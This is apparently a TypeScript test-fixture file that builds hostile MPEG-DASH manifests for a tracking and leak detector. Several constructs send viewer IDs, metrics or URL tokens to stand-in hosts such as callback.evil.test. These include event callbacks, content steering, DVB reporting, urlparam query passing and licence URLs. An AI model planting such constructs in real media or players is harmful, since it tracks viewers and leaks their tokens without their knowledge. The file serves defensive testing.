import { readFileSync } from 'node:fs';
import { dash, type HostileCase } from '../case.js';
import { emsg } from '../manifests/emsg.js';
import { mpd, template } from '../manifests/dash.js';

const src = '/case/manifest.mpd';

/** An MPD of ours with our own media and one construct that sends reports, identifies the viewer or loads something else. */
const construct = (
  name: string,
  row: string,
  parts: Parameters<typeof mpd>[0],
  finds: string[],
  more: Partial<HostileCase> = {}
): HostileCase => ({
  name,
  row,
  src,
  files: { [src]: dash(mpd(parts)) },
  playsTo: 1.5,
  finds,
  ...more
});

const steering = (url: string) =>
  `<ContentSteering defaultServiceLocation="a" queryBeforeStart="true">${url}</ContentSteering><BaseURL serviceLocation="a">/media/cmaf/</BaseURL>`;
const clones = JSON.stringify({
  VERSION: 1,
  TTL: 1,
  'RELOAD-URI': 'https://reload.evil.test/s.dcsm',
  'PATHWAY-PRIORITY': ['clone', 'a'],
  'PATHWAY-CLONES': [{ 'BASE-ID': 'a', ID: 'clone', 'URI-REPLACEMENT': { HOST: 'https://clone.evil.test', PARAMS: { u: '42' } } }]
});

const callback = 'https://callback.evil.test/ping?u=42';
const ownCallback = '/case/ping?u=viewer-4711';
const eventStream = `<EventStream schemeIdUri="urn:mpeg:dash:event:callback:2015" value="1" timescale="1"><Event presentationTime="0" duration="1" id="7">${callback}</Event></EventStream>`;

const cmcd = `<ServiceDescription id="0"><ClientDataReporting><CMCDParameters schemeIdUri="urn:mpeg:dash:cta-5004:2023" version="1" mode="query" includeInRequests="segment mpd" keys="br d ot sid cid" contentID="c" sessionID="viewer-4711"/></ClientDataReporting></ServiceDescription>`;
const reporting = `<Metrics metrics="DVBErrors"><Reporting schemeIdUri="urn:dvb:dash:reporting:2014" value="1" dvb:reportingUrl="https://metrics.evil.test/report" dvb:probability="1000"/></Metrics>`;

const query = (year: 2014 | 2016) => {
  const prefix = year === 2014 ? 'up' : 'up16';
  const info = year === 2014 ? 'UrlQueryInfo' : 'ExtUrlQueryInfo';
  return `<EssentialProperty schemeIdUri="urn:mpeg:dash:urlparam:${year}"><${prefix}:${info} queryTemplate="$querypart$" useMPDUrlQuery="true"/></EssentialProperty>`;
};
const elsewhere = template('', 'https://cdn.evil.test/media/cmaf/video-240/$Number$.m4s', '/media/cmaf/video-240/init.mp4');

const font = `<AdaptationSet id="4" contentType="text" mimeType="text/vtt" lang="en"><SupplementalProperty schemeIdUri="urn:dvb:dash:fontdownload:2014" value="1" dvb:url="https://font.evil.test/f.woff" dvb:fontFamily="Evil" dvb:mimeType="application/font-woff"/><Representation id="t" bandwidth="256"><BaseURL>/media/captions/en.vtt</BaseURL></Representation></AdaptationSet>`;
const ttml = `<tt xmlns="http://www.w3.org/ns/ttml" xmlns:smpte="http://www.smpte-ra.org/schemas/2052-1/2010/smpte-tt" xmlns:ttp="http://www.w3.org/ns/ttml#parameter" xml:lang="en" ttp:profile="http://www.w3.org/ns/ttml/profile/imsc1/image"><head><layout><region xml:id="r" xmlns:tts="http://www.w3.org/ns/ttml#styling" tts:extent="100% 100%"/></layout></head><body><div region="r" begin="0s" end="60s" smpte:backgroundImage="https://image.evil.test/i.png"/></body></tt>`;
const ttmlSet = `<AdaptationSet id="4" contentType="text" mimeType="application/ttml+xml" lang="en"><Representation id="t" bandwidth="256"><BaseURL>/case/captions.ttml</BaseURL></Representation></AdaptationSet>`;

const clearKey = `<ContentProtection schemeIdUri="urn:mpeg:dash:mp4protection:2011" value="cenc" cenc:default_KID="9eb4050d-e44b-4802-932e-27d75083e266"/>`;
const protection = (inner: string) =>
  `${clearKey}<ContentProtection schemeIdUri="urn:uuid:e2719d58-a985-b3c9-781a-b030af78d30e" value="ClearKey1.0">${inner}</ContentProtection>`;
const pssh = 'AAAAVHBzc2gAAAAA7e+LqXnWSs6jyCfc1R0h7QAAADQIARIQnrQFDeRLSAKTLifXUIPiZhoIZXZpbHRlc3QiFGh0dHBzOi8vbGEuZXZpbC50ZXN0';

export const dashTracking: readonly HostileCase[] = [
  construct(
    'content steering from another host',
    'dash-steering',
    { head: steering('https://steer.evil.test/s.dcsm'), segments: template('') },
    ['dash-steering']
  ),
  construct(
    'content steering from our host, with clones on other hosts',
    'dash-steering',
    { head: steering('/case/steer.dcsm'), segments: template('') },
    ['dash-steering'],
    {
      files: {
        [src]: dash(mpd({ head: steering('/case/steer.dcsm'), segments: template('') })),
        '/case/steer.dcsm': { body: clones, type: 'application/json' }
      }
    }
  ),
  construct('metrics reported to another host (DVB)', 'dash-dvb-metrics', { tail: reporting }, ['dash-metrics']),
  construct('an event that calls another host', 'dash-event-callback', { period: eventStream }, ['dash-callback']),
  construct(
    'an event that calls our own host: no host may learn what is watched',
    'dash-event-callback',
    { period: eventStream.replace(callback, ownCallback) },
    ['dash-callback']
  ),
  construct(
    'an event that calls our own host by a URL that is also given as a clock',
    'dash-event-callback',
    {
      head: `<UTCTiming schemeIdUri="urn:x:http-none" value="${ownCallback}"/>`,
      period: eventStream.replace(callback, ownCallback)
    },
    ['dash-callback']
  ),
  construct(
    'an event inside a segment that calls another host (emsg)',
    'dash-event-callback',
    {
      set: '<InbandEventStream schemeIdUri="urn:mpeg:dash:event:callback:2015" value="1"/>',
      segments: template('/case/', '$Number$.m4s', '../media/cmaf/video-240/init.mp4').replace('/case/../', '/')
    },
    ['dash-callback'],
    {
      files: {
        [src]: dash(
          mpd({
            set: '<InbandEventStream schemeIdUri="urn:mpeg:dash:event:callback:2015" value="1"/>',
            segments: template('', '/case/seg/$Number$.m4s', '/media/cmaf/video-240/init.mp4')
          })
        ),
        ...Object.fromEntries(
          [1, 2, 3, 4].map((number) => [
            `/case/seg/${number}.m4s`,
            {
              body: emsg(callback, readFileSync(new URL(`../../../../demo/media/cmaf/video-240/${number}.m4s`, import.meta.url))),
              type: 'video/mp4'
            }
          ])
        )
      }
    }
  ),
  construct('CMCD with an identifier of the visit, to our own host', 'dash-cmcd-from-mpd', { head: cmcd }, ['dash-cmcd']),
  construct('a token in a response header, which dash.js would send back (Common Access Token)', 'dash-cat', {}, [], {
    files: { [src]: { ...dash(mpd()), headers: { 'common-access-token': 'viewer-4711' } } },
    // The second segment has been requested by then.
    playsTo: 2.5
  }),
  construct(
    'the query of the URL sent to another host (urlparam 2014)',
    'dash-query-pass',
    { set: query(2014), segments: elsewhere },
    ['dash-query', 'dash-segment-template'],
    { src: `${src}?token=SECRET`, playsTo: undefined, blocked: ['segment'] }
  ),
  construct(
    'the query of the URL sent to another host (urlparam 2016)',
    'dash-query-pass',
    { set: query(2016), segments: elsewhere },
    ['dash-query', 'dash-segment-template'],
    { src: `${src}?token=SECRET`, playsTo: undefined, blocked: ['segment'] }
  ),
  construct('a caption font on another host (DVB)', 'dash-dvb-font', { sets: font }, ['dash-font'], {
    act: 'show captions',
    blocked: ['font']
  }),
  construct('captions with an image on another host (IMSC)', 'dash-imsc-image', { sets: ttmlSet }, [], {
    act: 'show captions',
    files: { [src]: dash(mpd({ sets: ttmlSet })), '/case/captions.ttml': { body: ttml, type: 'application/ttml+xml' } }
  }),
  construct(
    'a licence server (dashif:Laurl)',
    'dash-drm-laurl',
    { set: protection('<dashif:Laurl Lic_type="EME-1.0">https://la.evil.test/l</dashif:Laurl>') },
    ['dash-license'],
    { playsTo: undefined }
  ),
  construct(
    'a certificate of a licence server (dashif:Certurl)',
    'dash-drm-certurl',
    { set: protection('<dashif:Certurl certType="primary">https://cert.evil.test/c</dashif:Certurl>') },
    ['dash-license'],
    { playsTo: undefined }
  ),
  construct(
    'a licence server in a PSSH box',
    'dash-drm-laurl',
    {
      set: `${clearKey}<ContentProtection schemeIdUri="urn:uuid:edef8ba9-79d6-4ace-a3c8-27dcd51d21ed"><cenc:pssh>${pssh}</cenc:pssh></ContentProtection>`
    },
    ['dash-license'],
    { playsTo: undefined }
  ),
  construct(
    'a link to more information',
    'dash-baseurl',
    { head: '<ProgramInformation moreInformationURL="https://more.evil.test/"><Title>t</Title></ProgramInformation>' },
    ['dash-information']
  )
];
